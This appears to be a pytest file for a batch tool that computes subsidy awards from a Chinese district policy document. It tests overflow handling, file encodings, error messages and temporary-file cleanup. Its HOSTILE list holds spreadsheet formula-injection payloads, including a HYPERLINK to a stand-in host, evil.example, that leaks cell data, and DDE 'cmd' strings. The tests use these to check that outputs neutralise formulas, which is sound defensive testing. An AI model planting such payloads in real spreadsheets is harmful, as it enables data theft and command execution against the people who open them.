"""pol batch on what bureaus really hand in: no wrong amount, no lost run, no poisoned spreadsheet.

Every test runs the one document 婺区政发〔2023〕6号 (policies/wucheng2023.pol), whatever else
policies/ holds.  Amounts are worked out by hand from its text: art. 8 省级院士专家工作站
“按市财政补助额度1:2配套” and 博士后工作站 “按市级奖励额度1:2配套” pay twice the city's
amount, with no cap.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import pytest

import pol_runtime as runtime
from compiler.tools import batch, cli, policy_set
from pol_runtime.columns import sets as vector_set

POLICY = Path("policies/wucheng2023.pol")
MODULES = cli._modules(POLICY)
ENTRIES = policy_set.entries(MODULES, cli._generated_functions(POLICY, MODULES))
KERNELS = cli._kernels(MODULES)

WORKSTATION = ["申请编号", "新建工作站", "院士专家工作站级别", "市财政补助额度", "博士后工作站绩效考核优秀", "市级奖励额度"]


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8", delimiter: str = ",") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle, delimiter=delimiter).writerows(rows)
    return path


def results(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def batch_both(tmp_path: Path, source: Path, *extra: str) -> list[list[str]]:
    """``pol batch`` by column and row by row: both exit 0 with the same bytes; the rows read back."""
    outputs = []
    for backend in ("vector", "scalar"):
        target = tmp_path / f"{backend}.csv"
        assert cli.main(["batch", str(source), "--set", str(POLICY), "-o", str(target), "--no-progress",
                         "--backend", backend, *extra]) == 0
        outputs.append(target.read_bytes())
    assert outputs[0] == outputs[1]
    return results(tmp_path / "vector.csv")


# ── amounts beyond int64 fen ──────────────────────────────────────────────────
def test_two_uncapped_matching_awards_near_int64_add_up_exactly(tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    # 4·10¹⁶ 元 × 2 = 8·10¹⁶ 元 each (8·10¹⁸ fen, inside int64); together 1.6·10¹⁷ 元, beyond int64 fen.
    source = write_csv(tmp_path / "in.csv", [WORKSTATION, ["A1", "是", "省级院士专家工作站", "40000000000000000", "是",
                                                           "40000000000000000"],
                                             ["A2", "是", "省级院士专家工作站", "100万元", "否", ""]])
    rows = batch_both(tmp_path, source)
    assert rows[1][:3] == ["2", "A1", "160000000000000000.00"]
    assert "art8_provincial_workstation=80000000000000000.00" in rows[1][4]
    assert "art8_postdoc=80000000000000000.00" in rows[1][4]
    assert rows[2][:3] == ["3", "A2", "2000000.00"]  # 100万元 × 2
    assert "合计 160,000,000,002,000,000.00元" in capsys.readouterr().out


def test_an_id_number_in_a_money_cell_does_not_stop_the_batch(tmp_path: Path) -> None:
    # A 身份证号 pasted as 市财政补助额度: 110101199003071234 元 × 2, as the scalar calculators compute it.
    source = write_csv(tmp_path / "in.csv", [WORKSTATION, ["A1", "是", "省级院士专家工作站", "110101199003071234", "", ""],
                                             ["A2", "是", "省级院士专家工作站", "100万元", "", ""]])
    rows = batch_both(tmp_path, source)
    assert rows[1][:3] == ["2", "A1", "220202398006142468.00"]
    assert rows[2][:3] == ["3", "A2", "2000000.00"]


def test_the_totals_of_a_chunk_stay_exact_beyond_int64() -> None:
    header = WORKSTATION[1:]
    columns = [["是", "是"], ["省级院士专家工作站"] * 2, ["110101199003071234", "10万元"], ["", ""], ["", ""]]
    outcome = vector_set.evaluate(ENTRIES, KERNELS, header, columns)
    assert [int(fen) for fen in outcome.total] == [22020239800614246800, 20_000_000]


def test_a_kernel_that_overflows_on_one_row_sends_only_few_rows_to_the_scalar_path() -> None:
    # 5·10¹⁶ 元 is 5·10¹⁸ fen, inside int64; twice that is not: the kernel refuses the chunk.
    amounts = ["10万元"] * 200
    amounts[137] = "50000000000000000"
    header = WORKSTATION[1:4]
    columns = [["是"] * 200, ["省级院士专家工作站"] * 200, amounts]
    outcome = vector_set.evaluate(ENTRIES, KERNELS, header, columns)
    assert 137 in outcome.scalar and len(outcome.scalar) <= 16
    assert int(outcome.total[137]) == 10**19  # 10¹⁷ 元
    assert int(outcome.total[0]) == 20_000_000  # 20万元
    for row in (0, 137, 199):
        facts = {name: columns[k][row] for k, name in enumerate(header)}
        assert outcome.result(row).to_json(ENTRIES) == runtime.evaluate_set(ENTRIES, facts).to_json(ENTRIES)


def test_an_uncapped_amount_that_fits_is_still_computed_by_column() -> None:
    outcome = vector_set.evaluate(ENTRIES, KERNELS, WORKSTATION[1:4], [["是"], ["省级院士专家工作站"], ["40000000000000000"]])
    assert not outcome.scalar and outcome.total.dtype == np.int64 and outcome.total.tolist() == [8 * 10**18]
    assert batch.yuan_text(outcome.total.tolist()[0]) == "80000000000000000.00"


# ── text from the applications never becomes a formula ──────────────────────────
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "=1+1", "#N/A"]


def hostile_source(tmp_path: Path) -> Path:
    rows = [["申请编号", "非政府性资金投资", "固定资产投资", "实际投资额"]]
    rows += [[ident, "是", "2000万元", "2000万元"] for ident in HOSTILE]
    return write_csv(tmp_path / "in.csv", rows)


def test_csv_results_neutralise_cells_that_would_start_a_formula(tmp_path: Path) -> None:
    rows = batch_both(tmp_path, hostile_source(tmp_path))
    idents = [row[1] for row in rows[1:]]
    assert idents == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[2], "'" + HOSTILE[3], "'=1+1", "#N/A"]
    assert [row[2] for row in rows[1:]] == ["200000.00"] * 6  # 2000万元 × 1%, under the 50万元 cap


def test_xlsx_results_hold_text_cells_never_formulas(tmp_path: Path) -> None:
    import openpyxl

    target = tmp_path / "out.xlsx"
    assert cli.main(["batch", str(hostile_source(tmp_path)), "--set", str(POLICY), "-o", str(target),
                     "--no-progress"]) == 0
    book = openpyxl.load_workbook(target)  # formulas as formulas, not their cached values
    sheet = book.worksheets[0]
    cells = [sheet.cell(row=row, column=2) for row in range(2, 2 + len(HOSTILE))]
    assert [cell.value for cell in cells] == HOSTILE
    assert {cell.data_type for cell in cells} == {"s"}


# ── the result file: never the input, normal permissions, no leftovers ────────────
def test_the_output_may_not_be_the_input(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = hostile_source(tmp_path)
    before = source.read_bytes()
    assert cli.main(["batch", str(source), "--set", str(POLICY), "-o", str(tmp_path / "." / "in.csv"),
                     "--no-progress"]) == 1
    assert "结果文件不能是申请文件本身" in capsys.readouterr().err
    assert source.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


def test_the_result_gets_the_permissions_of_any_new_file(tmp_path: Path) -> None:
    import os
    import stat

    old = os.umask(0o022)
    try:
        assert cli.main(["batch", str(hostile_source(tmp_path)), "--set", str(POLICY), "-o", str(tmp_path / "out.csv"),
                         "--no-progress"]) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "out.csv").stat().st_mode) == 0o644


def test_temporary_files_of_killed_batches_are_removed_by_the_next(tmp_path: Path) -> None:
    import fcntl
    import os

    stale = tmp_path / f".out.csv{batch.TEMPORARY}4242-deadbeef.tmp"
    stale.write_text("half a result")
    running = tmp_path / f".out.csv{batch.TEMPORARY}4343-cafecafe.tmp"  # another batch, still writing it
    running.write_text("being written")
    other = tmp_path / f".other.csv{batch.TEMPORARY}4444-0000ffff.tmp"  # another target's
    other.write_text("not ours")
    descriptor = os.open(running, os.O_RDONLY)
    fcntl.flock(descriptor, fcntl.LOCK_EX)
    try:
        assert cli.main(["batch", str(hostile_source(tmp_path)), "--set", str(POLICY), "-o", str(tmp_path / "out.csv"),
                         "--no-progress"]) == 0
    finally:
        os.close(descriptor)
    assert not stale.exists() and running.exists() and other.exists()


@pytest.mark.parametrize("how", ["SIGTERM", "SIGKILL"])
def test_a_killed_batch_leaves_no_temporary_file(tmp_path: Path, how: str) -> None:
    import signal
    import subprocess
    import sys
    import time

    rows = [["申请编号", "非政府性资金投资", "固定资产投资", "实际投资额"]]
    rows += [[f"A{n}", "是", f"{n}万元", f"{n}万元"] for n in range(200_000)]
    source = write_csv(tmp_path / "in.csv", rows)
    target = tmp_path / "out.csv"
    command = [sys.executable, "-m", "compiler.tools.cli", "batch", str(source), "--set", str(POLICY), "-o", str(target),
               "--no-progress", "--backend", "scalar"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
        try:
            deadline = time.monotonic() + 60
            while not list(tmp_path.glob(f".out.csv{batch.TEMPORARY}*.tmp")):
                assert process.poll() is None and time.monotonic() < deadline
                time.sleep(0.05)
            process.send_signal(getattr(signal, how))
            _, err = process.communicate(timeout=60)
        finally:
            if process.poll() is None:
                process.kill()
    if how == "SIGTERM":
        assert process.returncode == 1 and "已中断" in err
    else:  # nothing can clean up after SIGKILL: the next batch into the same file does
        assert process.returncode == -signal.SIGKILL
        small = write_csv(tmp_path / "small.csv", rows[:3])
        assert cli.main(["batch", str(small), "--set", str(POLICY), "-o", str(target), "--no-progress"]) == 0
        assert len(results(target)) == 3
    assert not list(tmp_path.glob(".*.tmp"))
    assert not target.exists() or how == "SIGKILL"


# ── input as bureaus have it ────────────────────────────────────────────────────
EXAMPLE = Path("examples/applications.csv").read_text(encoding="utf-8")


def run_batch(source: Path, target: Path, *extra: str) -> int:
    return cli.main(["batch", str(source), "--set", str(POLICY), "-o", str(target), "--no-progress", *extra])


@pytest.fixture(scope="module")
def expected(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The results of examples/applications.csv, read as the UTF-8 file it is."""
    folder = tmp_path_factory.mktemp("expected")
    assert run_batch(Path("examples/applications.csv"), folder / "out.csv") == 0
    return (folder / "out.csv").read_bytes()


@pytest.mark.parametrize(("encoding", "separator"), [
    ("gbk", ","),  # Excel on Chinese Windows, 另存为 “CSV（逗号分隔）”
    ("gb18030", ","),
    ("utf-16", "\t"),  # 另存为 “Unicode 文本”: UTF-16 with a byte-order mark, tab separated
    ("utf-16-le", "\t"),  # the same without the mark
    ("utf-8-sig", ";"),  # a European locale's separator
    ("utf-8", "\t"),
])
def test_the_encodings_and_separators_excel_writes_are_read(tmp_path: Path, expected: bytes, encoding: str,
                                                            separator: str) -> None:
    source = tmp_path / "in.csv"
    source.write_text(EXAMPLE.replace(",", separator), encoding=encoding, newline="")
    assert run_batch(source, tmp_path / "out.csv") == 0
    assert (tmp_path / "out.csv").read_bytes() == expected


def test_the_encoding_can_be_given_and_a_wrong_one_is_a_clear_error(tmp_path: Path, expected: bytes,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in.csv"
    source.write_text(EXAMPLE, encoding="gbk", newline="")
    assert run_batch(source, tmp_path / "out.csv", "--encoding", "gbk") == 0
    assert (tmp_path / "out.csv").read_bytes() == expected
    assert run_batch(source, tmp_path / "wrong.csv", "--encoding", "utf-8") == 1
    err = capsys.readouterr().err
    assert "第1行无法按 utf-8-sig 解码" in err and "--encoding" in err and "Traceback" not in err
    assert not (tmp_path / "wrong.csv").exists()
    assert cli.main(["batch", str(source), "-o", str(tmp_path / "x.csv"), "--encoding", "没有这种编码"]) == 2


def problem(tmp_path: Path, source: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """Run a batch that must fail: exit 1, one clear error, no result and no temporary file."""
    assert run_batch(source, tmp_path / "out.csv") == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "internal error" not in err and "Traceback" not in err
    assert not (tmp_path / "out.csv").exists() and not list(tmp_path.glob(".*.tmp"))
    return err


def test_a_header_that_names_no_input_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in.csv"
    source.write_text("编号|投资|金额\nA|1|2\n", encoding="utf-8")
    err = problem(tmp_path, source, capsys)
    assert f"{source} 的表头没有一列是政策的输入（表头是：“编号|投资|金额”；分隔符应为逗号、制表符或分号）" in err
    source.write_text("申请编号,投资额\nA,2\n", encoding="utf-8")  # an identifying column alone is not enough
    assert "的表头没有一列是政策的输入" in problem(tmp_path, source, capsys)


def test_two_columns_of_one_name_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in.csv"
    source.write_text("申请编号,固定资产投资,实际投资额,固定资产投资\nA,1000万元,1000万元,2000万元\n", encoding="utf-8")
    assert "有两列都叫“固定资产投资”（第2列和第4列）" in problem(tmp_path, source, capsys)


def test_a_cell_over_the_csv_field_limit_names_its_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in.csv"
    source.write_text('申请编号,固定资产投资\nA,1000万元\nB,"1000万元\n' + "C,1万元\n" * 30_000, encoding="utf-8")
    assert "第3行：单元格超过 131,072 个字符（常见原因是引号没有配对" in problem(tmp_path, source, capsys)


@pytest.mark.parametrize(("name", "words"), [
    ("in.xlsx", "不是有效的 XLSX 文件"), ("in.parquet", "不是有效的 Parquet 文件"),
])
def test_a_damaged_or_renamed_file_is_a_clear_error(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str,
                                                   words: str) -> None:
    source = tmp_path / name
    source.write_text(EXAMPLE, encoding="utf-8")  # a CSV file renamed
    assert f"{source} {words}" in problem(tmp_path, source, capsys)


def test_a_spreadsheet_renamed_to_csv_is_named_for_what_it_is(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(Path("examples/applications.xlsx").read_bytes())
    assert "实际是 XLSX（压缩）文件，不是 CSV" in problem(tmp_path, source, capsys)


def workbook(path: Path, rows: list[list[object]], hidden_first: bool = False) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    if hidden_first:
        sheet.title = "填表说明"
        sheet.append(["申请编号", "固定资产投资"])  # looks like applications, but is hidden
        sheet.append(["样例", "1亿元"])
        sheet.sheet_state = "hidden"
        sheet = book.create_sheet("申请")
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


INVESTMENT = ["申请编号", "非政府性资金投资", "固定资产投资", "实际投资额"]


def test_a_hidden_first_sheet_is_skipped_with_a_warning(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = workbook(tmp_path / "in.xlsx", [INVESTMENT, ["A", "是", 20_000_000, 20_000_000]], hidden_first=True)
    assert run_batch(source, tmp_path / "out.csv") == 0
    assert "跳过了隐藏的工作表“填表说明”，读取的是第一个可见的工作表“申请”" in capsys.readouterr().err
    assert [row[:3] for row in results(tmp_path / "out.csv")[1:]] == [["2", "A", "200000.00"]]  # 2000万元 × 1%


def with_cached_value(path: Path, cell: str, value: str) -> None:
    """Store ``value`` as the formula cell's calculated value, as Excel does on saving."""
    import zipfile

    members = {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            members[name] = archive.read(name)
    sheet = "xl/worksheets/sheet1.xml"
    members[sheet], count = re.subn(f'<c r="{cell}"><f>([^<]*)</f><v ?/>'.encode(),
                                    f'<c r="{cell}" t="n"><f>\\1</f><v>{value}</v>'.encode(), members[sheet])
    assert count == 1
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def test_formula_cells_need_their_calculated_values(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = workbook(tmp_path / "in.xlsx", [[*INVESTMENT, "备注"], ["A", "是", 20_000_000, 20_000_000, "=A2&B2"],
                                             ["B", "是", "=C2", "=D2*2", "=A3&B3"]])
    err = problem(tmp_path, source, capsys)  # a formula in 备注, which no policy reads, would not matter
    assert "工作表“Sheet” 单元格 C3（列“固定资产投资”）是公式“=C2”，文件中没有保存它的计算结果" in err
    with_cached_value(source, "C3", "20000000")
    with_cached_value(source, "D3", "40000000")
    assert run_batch(source, tmp_path / "out.csv") == 0
    assert [row[:3] for row in results(tmp_path / "out.csv")[1:]] == [["2", "A", "200000.00"], ["3", "B", "400000.00"]]


def test_row_numbers_are_the_rows_a_person_sees(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # A title row, a blank row, the header on row 3; a blank row between the applications.
    lines = ["2023年度旅游项目投资补助申报汇总表,,,", "", ",".join(INVESTMENT), "A,是,2000万元,2000万元", ",,,",
             "B,是,很多,2000万元"]
    source = tmp_path / "in.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rows = batch_both(tmp_path, source)
    err = capsys.readouterr().err
    assert "第1行不是表头（没有政策的输入名），已跳过；表头在第3行" in err
    assert "第6行 字段“固定资产投资”：“很多”不是金额" in err
    assert [row[:2] for row in rows[1:]] == [["4", "A"], ["6", "B"]]
    assert rows[2][9].startswith("第6行 字段“固定资产投资”")
    sheet = workbook(tmp_path / "in.xlsx", [[value or None for value in line.split(",")] if line else [] for line in lines])
    assert run_batch(sheet, tmp_path / "sheet.csv") == 0
    assert [row[:2] for row in results(tmp_path / "sheet.csv")[1:]] == [["4", "A"], ["6", "B"]]


def test_columns_no_policy_reads_are_named_with_a_suggestion(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = write_csv(tmp_path / "in.csv", [[*INVESTMENT, "固定资产投入", "联系人"],
                                             ["A", "是", "2000万元", "2000万元", "1", "张三"]])
    assert run_batch(source, tmp_path / "out.csv") == 0
    assert "的这些列不是政策的输入，未使用：“固定资产投入”（是否指“固定资产投资”？）、“联系人”" in capsys.readouterr().err


def test_an_output_that_cannot_be_written_is_a_clear_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    blocker = tmp_path / "results"
    blocker.write_text("a file where a folder should be")
    assert run_batch(hostile_source(tmp_path), blocker / "out.csv") == 1
    err = capsys.readouterr().err
    assert err.startswith(f"error: 无法读写 {blocker}") and "internal error" not in err


def test_temporary_files_of_older_versions_are_removed_too(tmp_path: Path) -> None:
    older = tmp_path / ".out.csv.k3j_x9a2.tmp"  # tempfile.mkstemp's name, as pol wrote it before
    older.write_text("half a result")
    mine = tmp_path / ".out.csv.notes.tmp"  # not a name pol ever used
    mine.write_text("keep")
    assert run_batch(hostile_source(tmp_path), tmp_path / "out.csv") == 0
    assert not older.exists() and mine.exists()


def test_a_utf8_file_with_a_broken_byte_names_the_row_rather_than_reading_gbk(tmp_path: Path,
                                                                              capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in.csv"
    lines = EXAMPLE.encode("utf-8").split(b"\n")
    lines[4] = lines[4].replace("婺城区".encode(), b"\xff\xfe")  # row 5: a byte no UTF-8 file holds
    source.write_bytes(b"\n".join(lines))
    err = problem(tmp_path, source, capsys)
    assert "第5行无法按 utf-8-sig 解码" in err


def test_excels_unicode_text_file_is_read_and_an_xls_file_gets_advice(tmp_path: Path, expected: bytes,
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "申请.txt"  # Excel: 另存为 “Unicode 文本(*.txt)”
    source.write_text(EXAMPLE.replace(",", "\t"), encoding="utf-16", newline="")
    assert run_batch(source, tmp_path / "out.csv") == 0
    assert (tmp_path / "out.csv").read_bytes() == expected
    capsys.readouterr()
    (tmp_path / "out.csv").unlink()
    old = tmp_path / "申请.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0")  # the start of an old binary workbook
    assert "请在表格软件中另存为 .xlsx 或 CSV" in problem(tmp_path, old, capsys)
